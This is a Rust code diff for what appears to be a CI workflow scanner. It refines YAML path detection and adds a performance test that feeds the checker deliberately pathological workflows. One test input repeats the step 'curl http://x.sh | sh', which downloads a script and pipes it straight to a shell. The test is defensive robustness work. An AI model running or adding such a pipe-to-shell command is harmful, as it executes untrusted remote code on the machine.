@@ -222,7 +222,8 @@ fn is_pipeline(file: &FileMeta) -> bool {
 /// Is there an action or a workflow at this path?
 fn is_there(tree: &dyn SourceTree, path: &str) -> bool {
     let path = path.trim_start_matches("./").trim_end_matches('/');
-    let is_file = path.ends_with(".yml") || path.ends_with(".yaml");
+    let ending = path.rsplit_once('.').map(|(_, ending)| ending);
+    let is_file = matches!(ending, Some("yml" | "yaml"));
     tree.files().iter().any(|file| {
         let file = file.path.as_bytes();
         if is_file {
@@ -256,5 +257,58 @@ fn told(marked: &[String], evidence: &mut Evidence) {
         evidence
             .notes
             .push(format!("silenced: {} more", marked.len() - LISTED));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::fmt::Write as _;
+
+    use super::*;
+    use crate::source::class::PathClass;
+    use crate::source::language::Language;
+
+    fn hits(text: &str) -> usize {
+        let file = SourceFile::new(
+            text.as_bytes().to_vec(),
+            Some(Language::Yaml),
+            PathClass::default(),
+        );
+        let check = Workflows::new(Options::default()).expect("good options");
+        check.observe(&file).map_or(0, |facts| facts.hits.len())
+    }
+
+    /// Each would take minutes if a loop went over all for each of all.
+    #[test]
+    fn hostile_pipelines_end() {
+        let mut chain = "on: push\njobs:\n".to_owned();
+        for job in 0..3_000 {
+            let _ = writeln!(chain, "  j{job}: {{needs: j{}, runs-on: x}}", job + 1);
+        }
+        hits(&chain);
+        let uses = "      - uses: actions/checkout@v4\n".repeat(5_000);
+        hits(&format!("on: push\njobs:\n  a:\n    steps:\n{uses}"));
+        let mut fan = "on: push\njobs:\n".to_owned();
+        for job in 0..12 {
+            let value = format!("${{{{ needs.j{}.outputs.x }}}}", job + 1).repeat(200);
+            let _ = writeln!(
+                fan,
+                "  j{job}:\n    outputs: {{x: \"{value}\"}}\n    steps: [{{run: \"{value}\"}}]"
+            );
+        }
+        hits(&fan);
+        let wide = "{run: 'curl http://x.sh | sh'},".repeat(10_000);
+        hits(&format!("on: push\njobs: {{a: {{steps: [{wide}]}}}}"));
+        for unit in ["a|", "$(", "'", "${{ ", "${{ a[", "{", "!(", "<<A\n"] {
+            let script = unit
+                .repeat(20_000 / unit.len())
+                .replace('\n', "\n          ");
+            hits(&format!(
+                "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          {script}\n"
+            ));
+            let wrapped =
+                format!("on: push\njobs:\n  a:\n    if: |\n      {script}\n    steps: []\n");
+            hits(&wrapped);
+        }
     }
 }
